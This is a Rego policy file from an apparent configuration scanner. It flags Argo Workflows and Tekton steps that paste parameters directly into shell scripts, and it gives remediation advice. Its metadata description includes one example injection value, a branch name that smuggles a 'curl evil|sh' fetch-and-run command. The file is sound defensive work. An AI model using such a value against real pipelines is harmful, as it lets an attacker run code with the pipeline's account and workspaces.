# SPDX-License-Identifier: Apache-2.0

# METADATA
# title: Steps of Argo and Tekton take parameters from variables, not as part of a script
# description: A parameter is put into the script as text before the shell reads it. A branch called a";curl evil|sh;" then runs in the step, with its account and its workspaces.
# related_resources:
# - ref: https://tekton.dev/docs/pipelines/variables/
#   description: Tekton, variable substitutions
# - ref: https://argo-workflows.readthedocs.io/en/latest/variables/
#   description: Argo Workflows, template tags
# - ref: https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-04-Poisoned-Pipeline-Execution
#   description: OWASP CI/CD risks, CICD-SEC-4
# - ref: https://cwe.mitre.org/data/definitions/78.html
#   description: CWE-78, OS command injection
# custom:
#   id: pipeline.workflow-script-injection
#   severity: medium
#   remediation: "Give the value to the step as a variable (env: [{name: BRANCH, value: $(params.branch)}]) and use it quoted (\"$BRANCH\"), or list what the parameter may be under enum."
#   zeroTrust: [Z1, Z2, Z4]
#   kinds: [kubernetes]
package sealock.config.pipeline.workflow_script_injection

import data.sealock.lib.config_shell as shell
import data.sealock.lib.config_workload as pods

finding contains f if {
	some s in scripts
	names := sort(s.names)
	count(names) > 0
	f := {
		"item": s.item.id, "path": s.path, "severity": severity(names),
		"message": sprintf("%s, which %s, becomes part of the script", [several(names), who(names)]), "found": several(names),
		"expected": "a variable of the environment, in quotes",
	}
}

several(names) := concat(", ", names) if {
	count(names) <= 3
} else := sprintf("%s and %d more", [concat(", ", array.slice(names, 0, 3)), count(names) - 3])

from_event(names) if {
	some n in names
	startswith(n, "tt.")
}

severity(names) := "high" if {
	from_event(names)
} else := "medium"

who(names) := "whoever sends the event can write" if {
	from_event(names)
} else := "whoever starts or calls this can choose"

scripts contains {"item": s.item, "path": s.path, "names": names} if {
	some s in argo_code
	names := {r | some r in argo_references(s.text); argo_open(s, r)}
}

scripts contains {"item": s.item, "path": s.path, "names": names} if {
	some s in tekton_code
	names := {r | some r in tekton_references(s.text); tekton_open(s, r)}
}

# code(c, path) is what an interpreter runs of a container's command line; what follows is arguments of the script.
code(c, path) := [{"path": array.concat(path, words[i + 1].path), "text": words[i + 1].text} |
	words := [{"path": [field, n], "text": v} | some field in ["command", "args"]; some n, v in pods.list(c, [field]); is_string(v)]
	options := [n | some n, w in words; regex.match(`^-[a-z]*[ce]$`, w.text)]
	i := options[0]
	count(words) > i + 1
	some w in array.slice(words, 0, i)
	shell.base(w.text) in shell.interpreters
]

# --- Argo

# workflows are what has templates, beside where.
workflows := [{"item": i, "spec": pods.dict(i.object, root), "root": root} |
	some kind, root in {
		"Workflow": ["spec"], "WorkflowTemplate": ["spec"], "ClusterWorkflowTemplate": ["spec"], "CronWorkflow": ["spec", "workflowSpec"],
	}
	some i in pods.of_kind({kind})
	i.group == "argoproj.io"
	i.pod == null
]

argo_code := [{"item": t.item, "workflow": t.workflow, "template": t.template, "path": array.concat(t.path, c.path), "text": c.text} |
	some t in array.concat(templates, inline)
	some c in array.concat(sources(t.template), command_lines(t.template))
]

templates := [{"item": w.item, "workflow": w.spec, "template": t, "path": array.concat(w.root, ["templates", n])} |
	some w in workflows
	some n, t in pods.list(w.spec, ["templates"])
]

inline := [{"item": t.item, "workflow": t.workflow, "template": c.call.inline, "path": array.flatten([t.path, c.path, "inline"])} |
	some t in templates
	some c in parts(t.template)
	is_object(object.get(c.call, "inline", null))
]

# parts(t) is what a template calls, beside where.
parts(t) := array.concat(
	[{"path": ["steps", i, k], "call": c} | some i, group in pods.list(t, ["steps"]); is_array(group); some k, c in group; is_object(c)],
	[{"path": ["dag", "tasks", i], "call": c} | some i, c in pods.list(t, ["dag", "tasks"]); is_object(c)],
)

sources(t) := [{"path": ["script", "source"], "text": text} | text := pods.at(t, ["script", "source"], null); is_string(text)]

command_lines(t) := [c |
	some at in array.concat([["container"]], [array.concat(list, [n]) | some list in container_lists; some n, _ in pods.list(t, list)])
	some c in code(at_path(t, at), at)
]

container_lists := [["initContainers"], ["sidecars"], ["containerSet", "containers"]]

# at_path(v, path) is pods.at where the path goes through lists.
at_path(v, path) := object.get(v, path, {})

argo_references(text) := {r |
	some m in regex.find_all_string_submatch_n(`\{\{\s*((?:inputs|workflow)\.parameters(?:\.[\w.-]+)?)\s*\}\}`, text, -1)
	r := m[1]
} | {r |
	some tag in regex.find_n(`(?s)\{\{=.*?\}\}`, text, -1)
	some m in regex.find_all_string_submatch_n(`\b(inputs|workflow)\.parameters(?:\.([A-Za-z_]\w*)|\[["']([^"']+)["']\])`, tag, -1)
	r := sprintf("%s.parameters.%s%s", [m[1], m[2], m[3]])
}

argo_open(s, r) if {
	startswith(r, "workflow.")
	workflow_open(s, trim_prefix(trim_prefix(r, "workflow.parameters"), "."))
}

argo_open(s, r) if {
	name := trim_prefix(r, "inputs.parameters.")
	name != r
	not listed(pods.list(s.template, ["inputs", "parameters"]), name)
	input_open(s, name)
}

# A template that the workflow itself calls has what it is given there; with text alone there is nothing to choose.
input_open(s, name) if {
	count(calls(s)) == 0
	not fixed(s, name)
}

input_open(s, name) if {
	some call in calls(s)
	some p in pods.list(call, ["arguments", "parameters"])
	p.name == name
	not literal(call, pods.at(p, ["value"], ""))
}

fixed(s, name) if {
	s.item.kind == "CronWorkflow"
	s.template.name == s.workflow.entrypoint
	not workflow_open(s, name)
}

calls(s) := object.get(calls_of, key(s.item, pods.at(s.template, ["name"], "")), [])

key(item, name) := sprintf("%v/%v", [item.id, name])

# OPA makes an index for a comprehension in a comprehension: the calls are gone through once.
calls_of := {k: found |
	some k in {c.key | some c in all_calls}
	found := [c.call | some c in all_calls; k == c.key]
}

all_calls := [{"key": key(t.item, c.call.template), "call": c.call} | some t in templates; some c in parts(t.template)]

# Values that the workflow's author wrote, or that Argo makes.
literal(call, value) if {
	not regex.match(`\{\{[^}]*(inputs\.|workflow\.parameters|outputs\.|item)`, sprintf("%v", [value]))
	is_object(call)
}

literal(call, value) if {
	regex.match(`\{\{=?\s*item[^}]*\}\}`, sprintf("%v", [value]))
	not regex.match(`inputs\.|workflow\.parameters|outputs\.`, sprintf("%v", [value]))
	count(pods.list(call, ["withItems"])) > 0
}

# Nobody chooses the parameters of a CronWorkflow that gives them.
workflow_open(s, name) if {
	given := pods.list(s.workflow, ["arguments", "parameters"])
	not listed(given, name)
	not written_in_cron(s, given, name)
}

written_in_cron(s, given, name) if {
	s.item.kind == "CronWorkflow"
	some p in given
	p.name == name
	p.value != null
}

# listed(parameters, name) if a parameter is one of some given values.
listed(parameters, name) if {
	some p in parameters
	p.name == name
	count(pods.list(p, ["enum"])) > 0
}

# --- Tekton

tekton_code := [{"item": t.item, "task": t, "path": array.concat(step.path, c.path), "text": c.text} |
	some t in array.concat(written, embedded)
	some step in t.steps
	some c in array.concat(code(step.spec, []), [{"path": ["script"], "text": text} | text := pods.at(step.spec, ["script"], null); is_string(text)])
]

tekton(kinds) := [i | some i in pods.of_kind(kinds); i.group == "tekton.dev"; i.pod == null]

written := array.flatten([
	[task(i, ["spec"], []) | some i in tekton({"Task", "ClusterTask"})],
	[task(i, ["spec", "taskSpec"], pods.list(i.object, ["spec", "params"])) | some i in tekton({"TaskRun"})],
	[action(i) | some i in tekton({"StepAction"})],
])

action(item) := {
	"item": item, "declared": pods.list(item.object, ["spec", "params"]), "given": [],
	"steps": [{"path": ["spec"], "spec": item.object.spec}],
}

task(item, at, given) := {
	"item": item, "declared": pods.list(item.object, array.concat(at, ["params"])), "given": given,
	"steps": [{"path": array.concat(at, [list, n]), "spec": step} | some list in ["steps", "sidecars"]; some n, step in pods.list(item.object, array.concat(at, [list]))],
}

embedded := [task(i, array.flatten([at, list, n, "taskSpec"]), array.concat(pods.list(one, ["params"]), of_run(i))) |
	some i in tekton({"Pipeline", "PipelineRun"})
	at := {"Pipeline": ["spec"], "PipelineRun": ["spec", "pipelineSpec"]}[i.kind]
	some list in ["tasks", "finally"]
	some n, one in pods.list(i.object, array.concat(at, [list]))
]

of_run(item) := [p | item.kind == "PipelineRun"; some p in pods.list(item.object, ["spec", "params"])]

tekton_references(text) := {r |
	some m in regex.find_all_string_submatch_n(`\$\(((?:tt\.)?params(?:\.[\w.-]+|\[["'][^"']+["']\])|(?:tasks|steps)\.[\w-]+\.results(?:\.[\w.-]+|\[["'][^"']+["']\]))(?:\[[*\d]+\])?\)`, text, -1)
	r := m[1]
	not endswith(r, ".path")
}

tekton_open(_, r) if not startswith(r, "params")

tekton_open(s, r) if {
	startswith(r, "params")
	name := split(trim(trim_prefix(r, "params"), `.[]"'`), ".")[0]
	not listed(s.task.declared, name)
	not written_out(s.task, name)
}

# written_out(t, name) if whoever wrote the run wrote the parameter too. What a Task or Pipeline has under params are declarations, not values.
written_out(t, name) if {
	some p in t.given
	p.name == name
	value := json.marshal(p.value)
	not regex.match(`\$\((tt\.|params|tasks|steps)`, value)
}
